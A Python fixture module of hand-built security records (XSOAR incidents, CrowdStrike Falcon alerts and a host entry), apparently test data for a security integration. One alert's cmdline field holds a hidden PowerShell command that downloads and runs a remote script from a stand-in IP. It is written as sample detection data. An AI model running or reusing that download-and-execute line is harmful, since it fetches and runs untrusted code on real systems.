"""Vendor records in the documented shapes (XSOAR incidents, Falcon alerts and hosts), built by hand."""

from __future__ import annotations

import json
from typing import Any


def xsoar_incidents() -> list[dict[str, Any]]:
    """Five XSOAR incidents (keys of demisto-py's Incident model): open, closed FP, escalated, duplicate,
    bad."""
    return [
        {
            "id": "101",
            "name": "Phishing: credential harvest link",
            "type": "Phishing",
            "details": "User clicked hxxps://login-microsoft[.]evil-site[.]com/auth from a mail",
            "severity": 3,
            "status": 1,
            "created": "2025-05-01T10:00:00.123456789Z",
            "occurred": "2025-05-01T09:58:00Z",
            "modified": "2025-05-01T10:05:00Z",
            "owner": "analyst1",
            "sourceBrand": "EWS v2",
            "labels": [
                {"type": "Email/from", "value": "attacker@evil-mail.com"},
                {"type": "Hostname", "value": "WS-9"},
            ],
            "CustomFields": {
                "sourceip": "185.220.101.4",
                "mitretechniqueid": "T1566.002",
                "username": "alice",
            },
            "rawJSON": json.dumps({"headers": {"Received": "from mx.evil-mail.com (45.83.64.1)"}}),
            "version": 3,
        },
        {
            "id": "102",
            "name": "Port scan from internal host",
            "type": "Network",
            "severity": 0.5,
            "status": 2,
            "created": "2025-05-01T11:00:00Z",
            "occurred": "0001-01-01T00:00:00Z",
            "labels": [],
            "CustomFields": {"sourceip": "10.9.9.9"},
            "closeReason": "False Positive",
            "closeNotes": "authorised scanner; also seen 198.51.100.77",
            "closed": "2025-05-01T12:00:00Z",
            "version": 9,
        },
        {
            "id": "103",
            "name": "Ransomware note on file server",
            "type": "Malware",
            "severity": 4,
            "status": 2,
            "created": "2025-05-02T08:00:00Z",
            "CustomFields": {"escalated": True, "hostname": "FS-1"},
            "closeReason": "Other",
            "closeNotes": "handed to IR",
        },
        {
            "id": "104",
            "name": "Same phishing again",
            "severity": 2,
            "status": 2,
            "created": "2025-05-02T09:00:00Z",
            "closeReason": "Duplicate",
        },
        {
            "id": "105",
            "name": "Broken severity",
            "severity": 7,
            "status": 1,
            "created": "2025-05-02T10:00:00Z",
        },
    ]


def falcon_alerts() -> list[dict[str, Any]]:
    """Three Falcon Alerts v2 entities (fields of the Alerts API reference)."""
    base = {
        "cid": "0123456789abcdef0123456789abcdef",
        "product": "epp",
        "type": "ldt",
        "platform": "Windows",
        "device": {
            "device_id": "77d11725aaaabbbbccccddddeeeeffff",
            "hostname": "WS-1",
            "local_ip": "10.0.0.21",
            "external_ip": "203.0.113.10",
            "platform_name": "Windows",
        },
        "user_name": "alice",
        "logon_domain": "CORP",
        "falcon_host_link": "https://falcon.crowdstrike.com/activity-v2/detections/x",
    }
    return [
        {
            **base,
            "composite_id": "0123:ind:77d11725:1",
            "created_timestamp": "2025-06-01T10:00:01.123456789Z",
            "timestamp": "2025-06-01T10:00:00.000Z",
            "name": "EncodedPowerShell",
            "display_name": "Encoded PowerShell downloads a payload",
            "description": "A process ran encoded PowerShell that reached out to a remote host.",
            "severity": 85,
            "severity_name": "High",
            "tactic": "Execution",
            "tactic_id": "TA0002",
            "technique": "PowerShell",
            "technique_id": "T1059.001",
            "filename": "powershell.exe",
            "cmdline": "powershell.exe -nop -w hidden -c IEX(iwr http://203.0.113.66/stage.ps1)",
            "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "md5": "098f6bcd4621d373cade4e832627b4f6",
            "parent_details": {
                "filename": "winword.exe",
                "cmdline": "WINWORD.EXE /n C:\\Users\\alice\\inv.docm",
            },
            "grandparent_details": {"filename": "explorer.exe"},
            "ioc_context": [{"ioc_type": "domain", "ioc_value": "stage.evil-cdn.net", "ioc_source": "dns"}],
            "status": "new",
            "tags": [],
        },
        {
            **base,
            "composite_id": "0123:ind:77d11725:2",
            "created_timestamp": "2025-06-01T11:00:00Z",
            "timestamp": "2025-06-01T11:00:00Z",
            "name": "CredentialDumping",
            "display_name": "LSASS memory read",
            "severity": 95,
            "severity_name": "Critical",
            "technique_id": "T1003.001",
            "status": "closed",
            "resolution": "true_positive",
            "comments": [{"value": "contained and reimaged; C2 was 198.51.100.99"}],
            "assigned_to_name": "Alice Analyst",
        },
        {
            **base,
            "composite_id": "0123:ind:77d11725:3",
            "created_timestamp": "2025-06-02T09:00:00Z",
            "timestamp": "2025-06-02T09:00:00Z",
            "name": "SuspiciousScript",
            "display_name": "Admin script flagged",
            "severity": 30,
            "technique_id": "T9999",
            "status": "closed",
            "tags": ["false_positive"],
        },
    ]


def falcon_devices() -> list[dict[str, Any]]:
    """One host record (Hosts PostDeviceDetailsV2 fields)."""
    return [
        {
            "device_id": "77d11725aaaabbbbccccddddeeeeffff",
            "hostname": "WS-1",
            "platform_name": "Windows",
            "os_version": "Windows 11",
            "local_ip": "10.0.0.21",
            "external_ip": "203.0.113.10",
            "last_seen": "2025-06-02T10:00:00Z",
            "status": "normal",
            "agent_version": "7.20.19103.0",
            "tags": ["SensorGroupingTags/finance"],
            "seen_iocs": ["9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"],
        }
    ]
